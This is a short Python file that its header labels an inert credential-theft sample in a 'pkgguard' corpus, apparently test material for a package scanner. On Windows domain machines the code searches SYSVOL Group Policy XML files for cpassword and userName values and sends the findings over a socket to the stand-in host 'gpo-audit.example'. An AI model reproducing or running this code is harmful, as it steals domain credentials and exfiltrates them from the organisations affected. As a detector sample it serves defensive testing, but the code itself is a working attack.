# pkgguard corpus 905 (credentials), modelled on [taxonomy]; inert, never run.
import glob
import os
import re
import socket
import sys

if sys.platform == "win32":
    domain = os.environ.get("USERDNSDOMAIN")
    hits = []
    if domain:
        for xml in glob.glob(rf"\\{domain}\SYSVOL\{domain}\Policies\**\*.xml", recursive=True):
            try:
                with open(xml, encoding="utf-8", errors="ignore") as fh:
                    hits += re.findall(r'cpassword="([^"]+)"[^>]*userName="([^"]*)"', fh.read())
            except OSError:
                continue
    if hits:
        with socket.create_connection(("gpo-audit.example", 443), timeout=5) as conn:
            conn.sendall(repr(hits).encode())
